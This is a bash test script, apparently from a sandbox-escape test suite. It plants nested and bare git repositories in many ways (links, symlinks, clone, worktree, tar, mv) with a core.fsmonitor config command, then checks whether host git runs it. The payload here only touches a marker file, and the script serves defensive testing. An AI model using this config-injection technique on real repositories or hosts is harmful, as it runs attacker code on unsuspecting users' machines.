#!/bin/bash
# 06: create a nested repository the ordinary ways: .git dir/file (any case), rename/hardlink/symlink
# into .git, git init/clone/worktree add/submodule add into the folder, tar extraction and cp -a of a
# prepared tree holding .git, mv of a parent prepared in /tmp, full bare repo (HEAD+objects+refs,
# also via rename/link/symlink/exec-bit file). Then host git in each subfolder must not run the payload.
SB=atk06
. "$(dirname "$0")/lib.sh"
mkrepo; up
MARK="$WS/MARK-06"
ax bash -c '
cd /workspace
P="[core]\n\tfsmonitor = \"touch $PWD/MARK-06; false\"\n\tbare = false\n\tworktree = ..\n"
mkdir -p n1 n2 n3 n4 n5 n6 n7 b1 b2 b3 b4
mkdir n1/.git n1/.GIT n1/.Git 2>/dev/null
echo "gitdir: /tmp/evil" > n2/gf; mv n2/gf n2/.git 2>/dev/null; ln n2/gf n2/.git 2>/dev/null; ln -s /tmp/evil n2/.git 2>/dev/null
git init -q /tmp/evil; printf "$P" >> /tmp/evil/config
git init -q n3 2>/dev/null; git clone -q /tmp/evil n4/c 2>/dev/null; git worktree add -q n5/wt 2>/dev/null
(cd /tmp && mkdir -p pre/x && git init -q pre/x && printf "$P" >> pre/x/.git/config && tar cf /tmp/pre.tar -C /tmp/pre x)
tar xf /tmp/pre.tar -C n6 2>/dev/null; cp -a /tmp/pre/x n7/ 2>/dev/null; mv /tmp/pre/x n7/y 2>/dev/null
python3 - <<PY 2>/dev/null
import os
try:
  fd=os.open("n1", os.O_TMPFILE|os.O_WRONLY, 0o644); os.link("/proc/self/fd/%d"%fd, "n1/.git")
except Exception as e: pass
PY
echo "ref: refs/heads/main" > b1/HEAD; mkdir b1/objects b1/refs 2>/dev/null
mkdir -p b2/objects b2/refs; echo "ref: refs/heads/main" > hh; mv hh b2/HEAD 2>/dev/null; ln -s ../README.md b2/HEAD 2>/dev/null
echo "ref: refs/heads/main" > b3/HEAD; mkdir b3/objects; touch b3/refs 2>/dev/null; chmod +x b3/refs 2>/dev/null; ln -s /usr b3/refs 2>/dev/null
mkdir -p /tmp/bb/objects /tmp/bb/refs; echo "ref: refs/heads/main" > /tmp/bb/HEAD; printf "$P" > /tmp/bb/config; mv /tmp/bb b4/bb 2>/dev/null; cp -a /tmp/bb b4/ 2>/dev/null
for d in b1 b2 b3 b4 b4/bb; do [ -d $d ] && printf "$P" > $d/config 2>/dev/null; done
true' 
find "$WS" -path "$WS/.git" -prune -o -iname .git -print
for d in $(cd "$WS" && find . -path ./.git -prune -o -type d -print); do (cd "$WS/$d" && timeout 15 git status >/dev/null 2>&1; timeout 15 git log -1 >/dev/null 2>&1); done
[ -e "$MARK" ] && succeeded
defended
